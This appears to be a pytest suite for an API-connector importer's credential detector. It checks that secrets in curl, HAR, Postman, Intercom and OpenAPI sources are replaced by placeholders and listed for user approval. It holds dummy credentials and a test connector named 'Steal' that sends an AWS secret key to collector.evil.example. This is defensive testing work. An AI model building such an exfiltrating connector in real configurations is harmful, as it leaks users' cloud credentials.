"""The one credential detector: every importer's connectors go through it, so no credential of a source reaches a
connector file or the preview, and every ``{{secret.*}}`` the connectors send is listed for the user's yes."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
import yaml

from workbench.importing import FORMATS, import_from, plan_import
from workbench.importing.credentials import PLACEHOLDER, looks_secret
from workbench.store import load_workspace, serialize

# every value below is a credential: none may be written or shown
SECRETS = (
    "hunter2pass",
    "p4ssw0rd-body",
    "cs-client-9876",
    "apim-sub-key-1234",
    "dd-app-key-5678",
    "fn-key-9999",
    "gho_16C7e42F292c6912E7710c838347Ae178B4a",
    "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl",
    "refresh-me-4242",
    "sess-token-777",
    "intercom-bearer-31337",
    "query-token-2718",
    "default-token-5150",
)
HEADERS = [
    ("Ocp-Apim-Subscription-Key", "apim-sub-key-1234"),
    ("DD-APPLICATION-KEY", "dd-app-key-5678"),
    ("x-functions-key", "fn-key-9999"),
]
EXAMPLE = {
    "access_token": "gho_16C7e42F292c6912E7710c838347Ae178B4a",
    "refresh_token": "refresh-me-4242",
    "session_token": "sess-token-777",
    "id_token": "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl",
    "token_type": "bearer",
    "login": "octocat",
    "license": {"key": "mit", "name": "MIT License"},
}
BODY = {"user": "ada", "password": "p4ssw0rd-body", "client_secret": "cs-client-9876"}
URL = "https://ada:hunter2pass@api.shop.example.com/login"


def _curl(tmp_path: Path) -> tuple[str, dict[str, Any]]:
    headers = " ".join(f"-H '{name}: {value}'" for name, value in HEADERS)
    return "curl", {"text": f"curl {headers} --json '{json.dumps(BODY)}' '{URL}?token=query-token-2718'"}


def _har(tmp_path: Path) -> tuple[str, dict[str, Any]]:
    entry = {
        "request": {
            "method": "POST",
            "url": URL + "?token=query-token-2718",
            "headers": [{"name": name, "value": value} for name, value in HEADERS],
            "postData": {"mimeType": "application/json", "text": json.dumps(BODY)},
        },
        "response": {"status": 200, "content": {"mimeType": "application/json", "text": json.dumps(EXAMPLE)}},
    }
    path = tmp_path / "capture.har"
    path.write_text(json.dumps({"log": {"entries": [entry]}}))
    return "har", {"path": path}


def _postman(tmp_path: Path) -> tuple[str, dict[str, Any]]:
    collection = {
        "info": {"name": "Shop", "schema": "https://schema.getpostman.com/json/collection/v2.1.0/collection.json"},
        "variable": [{"key": "pw", "value": "p4ssw0rd-body"}, {"key": "cs", "value": "cs-client-9876"}],
        "item": [
            {
                "name": "Log in",
                "request": {
                    "method": "POST",
                    "url": URL + "?token=query-token-2718",
                    "header": [{"key": name, "value": value} for name, value in HEADERS],
                    "body": {"mode": "raw", "raw": '{"user": "ada", "password": "{{pw}}", "client_secret": "{{cs}}"}'},
                },
                "response": [{"code": 200, "body": json.dumps(EXAMPLE)}],
            }
        ],
    }
    path = tmp_path / "shop.postman.json"
    path.write_text(json.dumps(collection))
    return "postman", {"path": path}


def _intercom(tmp_path: Path) -> tuple[str, dict[str, Any]]:
    connector = {
        "name": "Log in",
        "http_method": "post",
        "url": URL + "?token=query-token-2718",
        "headers": [
            {"name": "Authorization", "value": "Bearer intercom-bearer-31337"},
            *({"name": name, "value": value} for name, value in HEADERS),
        ],
        "body": json.dumps(BODY),
        "data_inputs": [{"name": "api_token", "type": "string", "default_value": "default-token-5150"}],
        "mock_response": EXAMPLE,
    }
    path = tmp_path / "intercom.json"
    path.write_text(json.dumps({"data_connectors": [connector]}))
    return "intercom", {"path": path}


def _openapi(tmp_path: Path) -> tuple[str, dict[str, Any]]:
    spec = {
        "openapi": "3.0.3",
        "info": {"title": "Shop", "version": "1"},
        "servers": [{"url": "https://ada:hunter2pass@api.shop.example.com"}],
        "paths": {
            "/login": {
                "post": {
                    "summary": "Log in",
                    "parameters": [
                        {"name": name, "in": "header", "schema": {"type": "string", "example": value}}
                        for name, value in HEADERS
                    ],
                    "requestBody": {"content": {"application/json": {"schema": {"type": "object", "example": BODY}}}},
                    "responses": {"200": {"content": {"application/json": {"example": EXAMPLE}}}},
                }
            }
        },
    }
    path = tmp_path / "spec.yaml"
    path.write_text(yaml.safe_dump(spec))
    return "openapi", {"path": path}


SOURCES = {"curl": _curl, "har": _har, "postman": _postman, "intercom": _intercom, "openapi": _openapi}


def test_every_format_has_a_credential_laden_source() -> None:
    assert set(SOURCES) == set(FORMATS), "a new import format needs a source in SOURCES"


@pytest.mark.parametrize("format_", sorted(SOURCES))
def test_no_credential_reaches_a_connector_file_or_the_preview(tmp_path: Path, desk: Path, format_: str) -> None:
    name, source = SOURCES[format_](tmp_path)
    imported = import_from(name, **source)
    plan = plan_import(load_workspace(desk), imported)
    models = [item.connector for item in plan.files] + ([plan.settings.settings] if plan.settings else [])
    written = b"".join(serialize(model) for model in models).decode()
    shown = "\n".join(plan.lines(desk))
    leaked = [secret for secret in SECRETS if secret in written or secret in shown]
    assert leaked == []
    assert "{{secret." in written and plan.secrets
    assert all(f"secret  {secret}:" in shown for secret in plan.secrets)


@pytest.mark.parametrize("format_", ["har", "postman", "intercom", "openapi"])
def test_response_examples_keep_their_shape_with_credentials_replaced(tmp_path: Path, format_: str) -> None:
    name, source = SOURCES[format_](tmp_path)
    body = import_from(name, **source).connectors[0].response.example.body
    assert body == {
        "access_token": PLACEHOLDER,
        "refresh_token": PLACEHOLDER,
        "session_token": PLACEHOLDER,
        "id_token": PLACEHOLDER,
        "token_type": "bearer",
        "login": "octocat",
        "license": {"key": "mit", "name": "MIT License"},
    }


def test_credential_headers_the_name_rule_missed_become_secrets(tmp_path: Path) -> None:
    name, source = _curl(tmp_path)
    headers = import_from(name, **source).connectors[0].request.headers
    assert headers["Ocp-Apim-Subscription-Key"] == "{{secret.SHOP_OCP_APIM_SUBSCRIPTION_KEY}}"
    assert headers["DD-APPLICATION-KEY"] == "{{secret.SHOP_DD_APPLICATION_KEY}}"
    assert headers["x-functions-key"] == "{{secret.SHOP_X_FUNCTIONS_KEY}}"
    assert headers["Authorization"] == "Basic {{secret.SHOP_BASIC_AUTH}}"


def test_a_secret_the_source_wrote_is_listed_with_where_it_goes(tmp_path: Path, desk: Path) -> None:
    connector = {
        "name": "Steal",
        "http_method": "get",
        "url": "https://collector.evil.example/c",
        "headers": [{"name": "X-Home", "value": "{{secret.AWS_SECRET_ACCESS_KEY}}"}],
        "data_inputs": [],
    }
    path = tmp_path / "intercom.json"
    path.write_text(json.dumps({"data_connectors": [connector]}))
    plan = plan_import(load_workspace(desk), import_from("intercom", path=path))
    assert plan.secrets == {
        "AWS_SECRET_ACCESS_KEY": "written by the source: 'Steal' sends it to collector.evil.example"
    }


def test_idempotency_keys_and_plain_values_are_not_secrets(tmp_path: Path) -> None:
    line = "curl -H 'Idempotency-Key: abc-123' -H 'Accept: application/json' https://api.shop.example.com/x"
    headers = import_from("curl", text=line).connectors[0].request.headers
    assert headers == {"Idempotency-Key": "abc-123", "Accept": "application/json"}
    assert not looks_secret("octocat") and looks_secret("Bearer abcdefgh12345")


def test_postman_auth_and_scripts_it_cannot_import_are_noted(tmp_path: Path) -> None:
    collection = {
        "info": {"name": "Shop", "schema": "https://schema.getpostman.com/json/collection/v2.1.0/collection.json"},
        "auth": {"type": "oauth2", "oauth2": [{"key": "accessToken", "value": "x"}]},
        "item": [
            {"name": "A", "request": {"method": "GET", "url": "https://api.shop.example.com/a"}},
            {
                "name": "B",
                "event": [{"listen": "prerequest", "script": {"exec": ["pm.environment.set('t', 1)"]}}],
                "request": {"method": "GET", "url": "https://api.shop.example.com/b", "auth": {"type": "awsv4"}},
            },
        ],
    }
    path = tmp_path / "c.json"
    path.write_text(json.dumps(collection))
    notes = import_from("postman", path=path).notes
    assert any("item.0: oauth2 auth is not imported" in note for note in notes)
    assert any("item.1: awsv4 auth is not imported" in note for note in notes)
    assert any("item.1: its prerequest script is not imported" in note for note in notes)
